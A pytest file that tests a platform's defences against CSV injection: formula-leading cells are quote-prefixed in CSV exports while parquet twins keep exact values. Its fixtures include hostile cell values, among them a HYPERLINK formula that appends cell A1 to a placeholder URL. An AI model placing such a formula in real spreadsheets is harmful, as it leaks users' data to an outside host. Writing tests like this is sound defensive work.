"""Spreadsheet-safe CSV (OWASP "CSV injection"): hostile file names in the cleaned file lists and a hostile
model output in exports/audit_sample.csv come out quoted in the CSV, exact in the .parquet twin, and exact
when the platform reads its own CSV back."""

import csv
import json

import polars as pl
import pytest

from noisycal_platform.cleaning.pipeline.confirmation import write_cleaned_file_lists
from noisycal_platform.correctness import audit_workflow as aw
from noisycal_platform.correctness.demo_data import write_demo_correctness_inputs
from noisycal_platform.spreadsheet import parquet_twin, safe_cell, unsafe_cell
from orchestration.cli import main

HOSTILE = {  # value -> what a spreadsheet must see (written by hand from the OWASP rule)
    "=cmd5.png": "'=cmd5.png",
    "+x": "'+x",
    "-x.png": "'-x.png",
    "@SUM(A1)": "'@SUM(A1)",
    "\tlead.png": "'\tlead.png",
    "\rcr.png": "'\rcr.png",
    "-1.5": "-1.5",  # a number stays
    "+3": "+3",
    "1e5": "1e5",
    "plain.png": "plain.png",
    "a=b.png": "a=b.png",  # only the first character counts
    "'=already": "''=already",  # one more quote, so reading back is exact
    "'plain": "'plain",
    "": "",
}


@pytest.mark.parametrize("value,shown", HOSTILE.items())
def test_safe_cell_and_inverse(value, shown):
    assert safe_cell(value) == shown
    assert unsafe_cell(safe_cell(value)) == value
    assert safe_cell(3) == 3 and safe_cell(None) is None


def test_cleaned_lists_hostile_names(tmp_path):
    names = [n for n in HOSTILE if n]
    rules = ("unanimous", "majority")
    lists = pl.DataFrame(
        {"file_name": names * len(rules), "rule": [r for r in rules for _ in names]}
    )
    write_cleaned_file_lists(tmp_path, "ds", lists)
    for rule in rules:
        path = tmp_path / f"ds_{rule}.csv"
        with path.open(newline="", encoding="utf-8") as fh:
            cells = [row[0] for row in csv.reader(fh)]
        assert cells == ["file_name", *[HOSTILE[n] for n in names]]
        twin = pl.read_parquet(parquet_twin(path))
        assert twin.columns == ["file_name"] and twin["file_name"].to_list() == names


def test_hostile_model_output_in_audit_sample(tmp_path):
    home = tmp_path / "home"
    write_demo_correctness_inputs(home, seed=0, n_per_group=100)
    hostile = '=HYPERLINK("http://x.invalid/?"&A1,"click")'
    for f in sorted((home / "correctness" / "generations").glob("*.jsonl")):
        rows = [json.loads(line) for line in f.read_text(encoding="utf-8").splitlines() if line.strip()]
        for r in rows[::2]:  # half the model's answers lead with a formula (EM-rejected from now on)
            r["raw_output"] = json.dumps({"reasoning": "r", "answer": hostile})
        f.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    assert main(["--home", str(home), "audit", "sample", "--per-stratum", "5", "--seed", "0"]) == 0
    path = home / "exports" / "audit_sample.csv"
    with path.open(newline="", encoding="utf-8") as fh:
        shown = [r["answer"] for r in csv.DictReader(fh)]
    twin = pl.read_parquet(parquet_twin(path))
    exact = twin["answer"].to_list()
    assert exact.count(hostile) > 0  # the hostile answer reached the sample
    assert [("'" + hostile if e == hostile else e) for e in exact] == [s or None for s in shown]
    back = aw.read_audit_sample(path)  # what the confirmation tool shows: the exact model output
    assert back["raw_output"].to_list() == twin.sort("position")["raw_output"].to_list()
    assert back["position"].to_list() == twin.sort("position")["position"].to_list()
